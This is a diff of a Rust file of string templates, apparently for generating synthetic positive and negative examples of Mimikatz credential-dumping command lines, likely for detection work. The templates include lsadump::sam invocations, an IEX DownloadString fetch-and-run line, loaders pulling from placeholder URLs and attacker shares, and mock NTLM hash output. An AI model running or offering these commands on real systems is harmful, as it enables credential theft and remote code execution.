@@ -13,7 +13,7 @@ const EXE: &[&str] = &[
     r"echo {l} | {m}",
     r"{m} '{l}' exit",
     r"(echo privilege::debug & echo {l} & echo exit) | {m}",
-    r"{m} < {stem}.txt & rem {l}",
+    r"echo {l} > {stem}.txt & {m} < {stem}.txt",
     r#"{m} """{l}""" """exit""""#,
     r#"{m} privilege::debug token::elevate {l} {l2} exit"#,
     r#"{m} "{before2}" "{l2}" "{l}" exit"#,
@@ -46,9 +46,15 @@ const CON: &[&str] = &[
 const INVOKE: &[&str] = &[
     r#"Invoke-Mimikatz -Command '«"privilege::debug" ¦"token::elevate" »"{l}"'"#,
     r#"Invoke-Mimikatz -Command «'{l}'¦"{l}"¦'"{l}"'¦"`"{l}`""»« -ComputerName {host}»"#,
-    r#"IEX (New-Object Net.WebClient).DownloadString('{url}'); Invoke-Mimikatz -Command '"token::elevate" "{l}"«  "exit"»'"#,
+    concat!(
+        r"IEX (New-Object Net.WebClient).DownloadString('{url}'); Invoke-Mimikatz -Command ",
+        r#"'"token::elevate" "{l}"«  "exit"»'"#,
+    ),
     r"Import-Module .\Invoke-Mimikatz.ps1; Invoke-Mimikatz -Command '{l}'",
-    r#"Invoke-Mimikatz ⟦-Command '"token::elevate" "{l}"'¦«-ComputerName @('{host}','{host}')»⟧« | Out-File {psout}»"#,
+    concat!(
+        r#"Invoke-Mimikatz ⟦-Command '"token::elevate" "{l}"'¦«-ComputerName @('{host}','{host}')»⟧« "#,
+        r"| Out-File {psout}»",
+    ),
     r"& .\mimikatz.exe '{l}' exit",
     r#"Start-Process {psdir}\mimikatz.exe -ArgumentList «'"privilege::debug" "{l}" exit'¦'{l}','exit'» -Wait"#,
     r#"$c = "{l}"; Invoke-Mimikatz -Command $c"#,
@@ -58,16 +64,28 @@ const INVOKE: &[&str] = &[
     r#".\{stem}.exe '"{l}"' '"exit"'"#,
     r"Invoke-SharpLoader -location {url} -noArgs -argument {l}",
 ];
-const MIMI: &str = r"«mimikatz¦mimikatz.exe¦mimikatz.exe¦.\mimikatz.exe¦Mimikatz.exe¦MIMIKATZ.EXE¦x64\mimikatz.exe¦{dir}\mimikatz.exe¦{dir}\{alnum4}.exe¦m.exe¦mimi.exe¦C:\tools\mimikatz\x64\mimikatz.exe¦{dir}\mimikatz_trunk\x64\mimikatz.exe¦SharpKatz.exe --Command¦SafetyKatz.exe¦BetterSafetyKatz.exe¦SafetyKatz¦Loader.exe -path {url} -args¦\\{attacker}\{share}\mimikatz.exe¦pypykatz.exe¦mk64.exe¦katz.exe¦mimidrv.exe»";
+const MIMI: &str = concat!(
+    r"«mimikatz¦mimikatz.exe¦mimikatz.exe¦.\mimikatz.exe¦Mimikatz.exe¦MIMIKATZ.EXE¦",
+    r"x64\mimikatz.exe¦{dir}\mimikatz.exe¦{dir}\{alnum4}.exe¦m.exe¦mimi.exe¦",
+    r"C:\tools\mimikatz\x64\mimikatz.exe¦{dir}\mimikatz_trunk\x64\mimikatz.exe¦SharpKatz.exe ",
+    r"--Command¦SafetyKatz.exe¦BetterSafetyKatz.exe¦SafetyKatz¦Loader.exe -path {url} -args¦",
+    r"\\{attacker}\{share}\mimikatz.exe¦pypykatz.exe¦mk64.exe¦katz.exe¦mimidrv.exe»",
+);
 const POS: &[(&str, &str)] = &[
     ("m", MIMI),
     (
         "l",
-        "«lsadump::sam¦lsadump::sam¦lsadump::sam¦LSADUMP::SAM¦Lsadump::Sam¦lsadump::SAM¦lsadump::sam {offline}»",
+        concat!(
+            "«lsadump::sam¦lsadump::sam¦lsadump::sam¦LSADUMP::SAM¦Lsadump::Sam¦lsadump::SAM¦",
+            "lsadump::sam {offline}»",
+        ),
     ),
     (
         "offline",
-        r"«/system:{winsyscopy} /sam:{winsamcopy}¦/sam:{winsamcopy} /system:{winsyscopy}¦⟦/system:{syscopyname}¦/sam:{samcopyname}⟧¦/patch¦/system:{hivefile} /sam:{samfile}»",
+        concat!(
+            r"«/system:{winsyscopy} /sam:{winsamcopy}¦/sam:{winsamcopy} /system:{winsyscopy}¦",
+            r"⟦/system:{syscopyname}¦/sam:{samcopyname}⟧¦/patch¦/system:{hivefile} /sam:{samfile}»",
+        ),
     ),
     ("l2", "{katz}"),
     ("before", r#"«"privilege::debug" ¦"token::elevate" ¦"privilege::debug" "token::elevate" ¦"log" ¦»"#),
@@ -75,7 +93,10 @@ const POS: &[(&str, &str)] = &[
     ("after", r#"«¦ exit¦ "exit"¦ "{katz}" exit¦ "{katz}" "exit"¦ token::revert¦ >> {stem}.log»"#),
     (
         "result",
-        "Domain : {plainhost}⏎SysKey : {hex32}⏎Local SID : {sid}⏎⏎RID  : 000001f4 (500)⏎User : Administrator⏎  Hash NTLM: {hex32}",
+        concat!(
+            "Domain : {plainhost}⏎SysKey : {hex32}⏎Local SID : {sid}⏎⏎RID  : 000001f4 (500)⏎User : ",
+            "Administrator⏎  Hash NTLM: {hex32}",
+        ),
     ),
 ];
 const NEG: &[(&str, &str)] = &[
@@ -87,7 +108,10 @@ const NEG: &[(&str, &str)] = &[
     ("after", r#"«¦ exit¦ "exit"¦ "{katz}" exit¦ "{katz}" "exit"¦ token::revert¦ >> {stem}.log»"#),
     (
         "result",
-        "Authentication Id : 0 ; {10000..999999}⏎Session : Interactive from 1⏎User Name : {user}⏎Domain : {domain}⏎  * NTLM : {hex32}",
+        concat!(
+            "Authentication Id : 0 ; {10000..999999}⏎Session : Interactive from 1⏎User Name : {user}⏎",
+            "Domain : {domain}⏎  * NTLM : {hex32}",
+        ),
     ),
 ];
 
